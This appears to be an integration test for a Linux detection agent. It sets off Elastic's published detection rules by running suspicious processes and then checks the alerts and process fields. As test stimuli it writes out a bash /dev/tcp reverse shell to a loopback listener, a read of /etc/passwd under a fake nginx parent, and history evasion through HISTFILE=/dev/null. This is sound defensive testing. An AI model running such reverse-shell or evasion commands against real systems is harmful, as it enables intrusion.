// Issue 13 on the real kernel: Elastic's published Linux rules, copied from ../shared at test
// time, raised by real processes through `nightjar run`; Defend's process fields on live execs;
// how many process/network-only Linux EQL rules reference only fields the recording carries.

import { copyFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import { getPath, type EcsDoc } from '../../src/ecs/ecs-event.js';
import { carriedFields, fieldReport, type FieldReportRow } from '../../src/rules/field-report.js';
import { parseRuleFile, type LoadedRule } from '../../src/rules/load-rules.js';
import { startAgentProcess, type AgentHarness } from '../helpers/agent-harness.js';
import { ecsProblems } from '../helpers/ecs-validate.js';
import { skipKernel } from '../helpers/kernel-guard.js';
import { corpusAbsent, DETECTION_RULES } from '../helpers/shared-corpus.js';

const LINUX = DETECTION_RULES && `${DETECTION_RULES}/rules/linux`;
if (!LINUX) corpusAbsent("Elastic's detection rules", 'NIGHTJAR_DETECTION_RULES', 'detection-rules');

/** The rules triggered here, by file. */
const TRIGGERED = [
  'defense_evasion_hidden_file_dir_tmp.toml',
  'execution_shell_via_background_process.toml',
  'persistence_webserver_suspicious_command_execution.toml',
  'discovery_proc_maps_read.toml',
  'discovery_pam_version_discovery.toml',
  'defense_evasion_shell_history_clearing_via_environment_variables.toml',
];
/** The environment variables Elastic's Linux rules read (process.env_vars), allowed for this run. */
const ENV_VARS = ['HISTFILE', 'HISTSIZE', 'HISTFILESIZE', 'HISTCONTROL', 'GLIBC_TUNABLES', 'http_proxy', 'HTTPS_PROXY', 'ALL_PROXY'];
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const ruleName = (file: string) => /^name = "(.*)"$/m.exec(readFileSync(`${LINUX}/${file}`, 'utf8'))![1]!;

async function alertFor(agent: AgentHarness, name: string, marker: string, timeoutMs = 15000): Promise<EcsDoc | undefined> {
  const t0 = Date.now();
  while (Date.now() - t0 < timeoutMs) {
    const hit = agent.alerts().find((a) => getPath(a, 'rule.name') === name && JSON.stringify(a).includes(marker));
    if (hit) return hit;
    await sleep(200);
  }
  return undefined;
}

/** Process/network-only Linux EQL rules, with the fields each references that `have` lacks. */
function fieldCoverage(dir: string, have: Set<string>): FieldReportRow[] {
  const rules: LoadedRule[] = [];
  for (const file of readdirSync(dir).filter((f) => f.endsWith('.toml')).sort()) {
    const source = readFileSync(`${dir}/${file}`, 'utf8');
    if (!/^language = "eql"$/m.test(source)) continue;
    const { rule } = parseRuleFile(file, source);
    if (rule) rules.push(rule);
  }
  return fieldReport(rules, have).filter((r) => r.categories.every((c) => c === 'process' || c === 'network'));
}

describe.skipIf(skipKernel || !LINUX)("Elastic's Linux rules, live", () => {
  it('raise their alerts from real processes; live execs carry Defend fields; field coverage', async () => {
    const rules = mkdtempSync(`${tmpdir()}/nightjar-elastic-rules-`);
    for (const f of TRIGGERED) copyFileSync(`${LINUX}/${f}`, `${rules}/${f}`);
    const config = `${mkdtempSync(`${tmpdir()}/nightjar-elastic-config-`)}/config.yaml`;
    writeFileSync(config, `events:\n  env_vars: [${ENV_VARS.join(', ')}]\n`);
    const agent = await startAgentProcess(['--rules', rules, '--config', config]);
    const tag = `nj${process.pid}`;
    const got: Record<string, boolean> = {};
    try {
      // a hidden file made from /tmp (process.working_directory)
      await execa('touch', [`.${tag}-hidden`], { cwd: '/tmp' });
      // a reverse shell over bash /dev/tcp to loopback, detached with setsid from a shell
      const srv = createServer((s) => {
        s.end('exit\n');
      });
      const port = await new Promise<number>((r) => srv.listen(0, '127.0.0.1', () => r((srv.address() as { port: number }).port)));
      await execa('bash', ['-c', `setsid bash -c "bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1 # ${tag}"; true`], { reject: false, timeout: 10000 });
      srv.close();
      // a shell running a suspicious command under a web-server-named parent
      const web = mkdtempSync(`${tmpdir()}/nightjar-web-`);
      symlinkSync('/bin/bash', `${web}/nginx`);
      await execa(`${web}/nginx`, ['-c', `sh -c "cat /etc/passwd >/dev/null # ${tag}"; true`]);
      // memory maps read, PAM version query
      await execa('cat', ['/proc/self/maps', `/dev/null/${tag}`], { reject: false });
      await execa('dpkg-query', ['-W', 'libpam-modules', `${tag}`], { reject: false });
      // a shell started with its history sent nowhere (process.env_vars)
      await execa('bash', ['-c', `true ${tag}`], { env: { HISTFILE: '/dev/null' } });
      // a set-user-id binary run by an unprivileged user: effective root, real nobody
      await execa('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', '/usr/bin/su', '--help', `${tag}-suid`], { stdout: 'ignore' });
      // a process on a pseudo-terminal (script allocates one) with a known cwd
      await execa('script', ['-qc', `cd /tmp && /bin/true ${tag}-tty; true`, '/dev/null'], { stdout: 'ignore' });

      for (const f of TRIGGERED) got[f] = (await alertFor(agent, ruleName(f), tag)) !== undefined;
      expect(got).toEqual(Object.fromEntries(TRIGGERED.map((f) => [f, true])));

      const ev = await agent.waitFor((e) => getPath(e, 'event.action') === 'exec' && ((getPath(e, 'process.args') as string[]) ?? []).includes(`${tag}-tty`));
      expect(ev).toMatchObject({
        user: { id: '0', name: 'root' }, group: { id: '0', name: 'root' },
        process: {
          working_directory: '/tmp', interactive: true, tty: { char_device: { major: 136 } },
          user: { name: 'root' }, parent: { interactive: true },
          session_leader: { same_as_process: false }, group_leader: { same_as_process: false },
        },
      });
      // the shell's cwd when it exec'd (it cd'ed later): Defend's meaning, read at exec
      expect(getPath(ev, 'process.parent.working_directory')).toBe(process.cwd());
      expect(getPath(ev, 'process.thread.capabilities.effective')).toContain('CAP_SYS_ADMIN');
      expect(getPath(ev, 'process.entry_leader.entry_meta.type')).toEqual(expect.any(String));
      expect(getPath(ev, 'process.entry_leader.entity_id')).toEqual(expect.any(String));
      expect(getPath(ev, 'process.session_leader.name')).toEqual(expect.any(String));
      // Defend's real ids beside the effective ones (user.Ext.real.id, group.Ext.real.id)
      const suid = await agent.waitFor((e) => getPath(e, 'event.action') === 'exec' && getPath(e, 'process.name') === 'su' && ((getPath(e, 'process.args') as string[]) ?? []).includes(`${tag}-suid`));
      expect(suid).toMatchObject({
        user: { id: '0', Ext: { real: { id: '65534' } } }, group: { id: '65534', Ext: { real: { id: '65534' } } },
        process: { user: { id: '0' }, real_user: { id: '65534' } },
      });
    } finally {
      await agent.stop();
    }
    const events = agent.events();
    const problems = new Set(events.flatMap((e) => ecsProblems(e)));
    expect([...problems]).toEqual([]);
    writeFileSync(`${tmpdir()}/nightjar-elastic-live-events.path`, agent.eventsPath);

    const rows = fieldCoverage(LINUX!, carriedFields(events));
    const ok = rows.filter((r) => r.missingRequired.length === 0).length;
    const okStrict = rows.filter((r) => r.missing.length === 0).length;
    const counts = new Map<string, number>();
    for (const r of rows) for (const f of r.missingRequired) counts.set(f, (counts.get(f) ?? 0) + 1);
    const summary = { rules: rows.length, coveredIgnoringOptional: ok, coveredStrict: okStrict, missing: [...counts].sort((a, b) => b[1] - a[1]) };
    mkdirSync(`${tmpdir()}`, { recursive: true });
    writeFileSync(`${tmpdir()}/nightjar-field-coverage.json`, JSON.stringify({ summary, rows }, null, 1));
    console.log(`field coverage: ${JSON.stringify(summary)}`);
    // 211 rules; the 7 not coverable by process/network events (docs/elastic-rules.md): auditd.data.*
    // (5, Auditd Manager), dns.question.name (1), process.Ext.load_module (1)
    expect(ok).toBeGreaterThanOrEqual(204);
  }, 120000);
});
